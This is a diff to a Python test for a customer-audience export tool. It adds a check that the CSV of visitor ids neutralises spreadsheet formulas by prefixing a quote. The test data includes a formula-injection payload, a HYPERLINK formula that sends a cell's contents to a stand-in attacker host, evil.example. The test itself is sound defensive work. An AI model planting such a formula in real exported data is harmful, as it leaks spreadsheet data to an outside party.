@@ -14,10 +14,14 @@ through the webhook plugin to a local HTTP server (Python's http.server).
   an anonymous visitor are not listed;
 - sync POSTs the members added, then after consent is withdrawn, a customer
   erased and another one arrives, exactly those removed and that added; a
-  sync with nothing changed sends nothing.
+  sync with nothing changed sends nothing;
+- the ids' CSV (`--csv`, the console's download) puts a ' in front of an id
+  a spreadsheet would run as a formula (= + - @).
 """
 
+import csv
 import hashlib
+import io
 import http.server
 import json
 import os
@@ -102,7 +106,14 @@ def test_formats_and_sync():
     events += [{"type": "consent", "customer": "c4", "props": {"marketing": False}}]
     events += customer("c5", phone="030 1234567", sms_ok=True)          # national number
     events += [{"type": "view", "anon": "v9", "item": "hat"}]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    events += [{"type": "view", "anon": a, "item": "hat"} for a in (formula, "-2+3", "@SUM(1)")]
     ingest(db, events)
+
+    _, out, _ = run("audiences", "export", "visitors", "--days", "2", "--csv", "--db", db)
+    anons = {r[1] for r in list(csv.reader(io.StringIO(out)))[1:] if r[1]}
+    check("ids' CSV: a formula is text, other ids as they are",
+          anons == {"'" + formula, "'-2+3", "'@SUM(1)", "v9"}, anons)
 
     _, out, err = run("audiences", "export", "visitors", "--days", "2", "--format", "google",
                       "--db", db, "--strategies", strategies)
